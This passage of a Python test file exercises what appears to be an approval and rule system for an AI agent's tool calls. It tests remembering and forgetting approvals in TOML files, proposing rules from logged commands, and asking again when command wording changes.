    [told] = other.memory.remembered()
    other.memory.forget(told.id)

    assert one.memory.remembered() == ()


FILE = """\
# mine \u2028 \x85 really
mode = "ask"

[[rule]] # first
id = "first"
decide = "deny"
tools = "x"
reason = '''
[[rule]]
id = "remembered-1"
'''

# it was late
[[rule]]
id = "remembered-1"
decide = "allow"
tools = "y"
[rule.args]
n = 1

# about the last
[[rule]]
id = "last"
decide = "deny"
tools = "z"
# the end
"""


def test_forgetting_leaves_other_rules_and_comments_as_they_were(folder: Path) -> None:
    file = folder / "user.toml"
    file.write_text(FILE, encoding="utf-8")
    file.chmod(0o600)
    desk = Desk(folder)
    desk.memory.forget("remembered-1")
    left = file.read_text(encoding="utf-8")

    gone = '[[rule]]\nid = "remembered-1"\ndecide = "allow"\ntools = "y"\n[rule.args]\nn = 1\n'
    assert left == FILE.replace(gone, "")
    assert [one.origin.rule for one in parse(left, file="", level=Level.USER).rules] == [
        "first",
        "last",
    ]


@pytest.mark.parametrize("rule_id", ["mine", "remembered-none", "remembered-no", "", "deny x"])
def test_only_what_was_remembered_can_be_forgotten(folder: Path, rule_id: str) -> None:
    text = '[[rule]]\nid = "mine"\ndecide = "deny"\ntools = "x"\n[[rule]]\nid = "remembered-no"\ndecide = "deny"\ntools = "x"\n'
    (folder / "user.toml").write_text(text, encoding="utf-8")
    (folder / "user.toml").chmod(0o600)
    desk = Desk(folder, rules=text)

    with pytest.raises(InvalidRule) as caught:
        desk.memory.forget(rule_id)
    assert str(caught.value) == (
        f"no remembered approval has the id {rule_id!r}; `handrail rules list` shows them"
    )
    assert (
        [one.origin.rule for one in desk.book.rules],
        (folder / "user.toml").read_text(encoding="utf-8"),
    ) == (["mine", "remembered-no"], text)


@given(st.lists(st.sampled_from(["run", "project", "always"]), max_size=5), st.data())
def test_after_any_answers_and_second_thoughts_the_files_can_be_read_and_say_what_counts(
    tmp_path_factory: pytest.TempPathFactory, scopes: Sequence[str], data: st.DataObject
) -> None:
    desk = Desk(tmp_path_factory.mktemp("own"))
    for at, scope in enumerate(scopes):
        desk.say_yes(desk.question(f"tool{at} ./a"), scope)
    gone = (
        data.draw(st.sets(st.sampled_from([one.id for one in desk.memory.remembered()])))
        if scopes
        else set()
    )
    for one in gone:
        desk.memory.forget(one)
    kept = desk.memory.remembered()
    again = load(desk.places, builtin=())

    assert not gone & {one.id for one in kept}
    assert len(kept) == len(scopes) - len(gone)
    assert again.problems == ()
    assert {one.origin.rule for one in again.rules} == {
        one.id for one in kept if one.scope != "run"
    }
    assert {one.origin.rule for one in desk.book.rules} == {one.id for one in kept}


@pytest.mark.parametrize("content", [b"\xff", None])
def test_a_file_that_cannot_be_read_is_told_like_any_other_mistake(
    folder: Path, content: bytes | None
) -> None:
    if content is None:
        (folder / "project.toml").mkdir()
    else:
        (folder / "project.toml").write_bytes(content)
        (folder / "project.toml").chmod(0o600)

    with pytest.raises(InvalidRule):
        Desk(folder).memory.remembered()


# ---------------------------------------------------------------- many questions at once


def test_a_log_of_questions_becomes_few_rules_with_their_file(folder: Path) -> None:
    desk = Desk(folder)
    lines = [
        "git log",
        "git log --oneline",
        "mytool ./a",
        "git log",
        "npm test",
        "rm x",
        "mytool -x ./b",
    ]
    pendings = [desk.question(line) for line in lines]
    pendings += [
        desk.question_of(SAVE, {}, (Access(WRITE, f"file:{one}"),)) for one in ("a/b", "a/c", "d/e")
    ]
    proposals = desk.memory.propose_all(pendings)

    assert [(one.scope, body(one), one.file) for one in proposals] == [
        ("project", 'command = [["git", "log"]]', str(folder / "project.toml")),
        ("project", 'command = [["git", "log", "--oneline"]]', str(folder / "project.toml")),
        ("project", 'command = [["mytool", "./a"]]', str(folder / "project.toml")),
        ("project", 'command = [["npm", "test"]]', str(folder / "project.toml")),
        ("project", 'command = [["mytool", "-x", "./b"]]', str(folder / "project.toml")),
        (
            "project",
            'access = ["write file:a/**", "write file:d/**"]',
            str(folder / "project.toml"),
        ),
    ]
    for one in proposals:
        desk.memory.store(one)
    assert [type(desk.judge(line)) for line in lines] == [Allow] * 5 + [Ask, Allow]
    assert isinstance(desk.judge("mytool -x ./a"), Ask)  # these words were never approved together


def test_no_questions_need_no_rules() -> None:
    assert Desk().memory.propose_all([]) == ()


# ---------------------------------------------------------------- with an executor


async def test_the_second_call_with_the_same_words_is_not_asked_about_and_any_other_is() -> None:
    book = Rulebook()
    memory = RememberedApprovals(book, RulePaths())
    questions: list[str] = []

    async def always(pending: Pending) -> Allow:
        questions.append(str(pending.call.args))
        for one in memory.propose(pending)[:1]:
            memory.store(one)
        return Allow()

    @tool(effect=WRITE)
    async def bash(command: str) -> str:
        """Run a line."""
        return command

    lines = ["mytool -x ./a", "mytool  '-x' ./a", "mytool ./b", "rm x", "rm x", "rm  x"]
    async with Executor(Toolset(bash), policy=book, approvals=always) as executor:
        results = [
            await executor.run(Call("bash", {"command": line}, str(at)))
            for at, line in enumerate(lines)
        ]

    assert [one.text for one in results] == lines
    assert questions == [
        '{"command":"mytool -x ./a"}',
        '{"command":"mytool ./b"}',
        '{"command":"rm x"}',
        '{"command":"rm  x"}',
    ]


def test_what_no_file_can_hold_is_not_proposed() -> None:
    pending = Pending(
        run_id="",
        turn_id="",
        key="p",
        position=0,
        round=0,
        call=Call("store", "{}", "1"),
        effect=WRITE,
        accesses=(Access(WRITE, "db:\ud800"),),
        question="May it?",
        fingerprint="",
        asked_at=0,
        expires_at=1,
        origin=Origin("mode ask", kind="mode"),
    )

    assert RememberedApprovals(Rulebook(), RulePaths()).propose(pending) == ()


async def test_a_lock_that_another_program_keeps_stops_no_event_loop(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    question = desk.question("make all")
    lock = os.open(tmp_path / ".project.toml.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        before = time.monotonic()
        with pytest.raises(TimeoutError, match="another program holds this lock"):
            desk.say_yes(question, "project")
        waited = time.monotonic() - before
    finally:
        os.close(lock)

    assert waited < 2  # in a thread of its own, it would be 3
    assert desk.say_yes(question, "project")
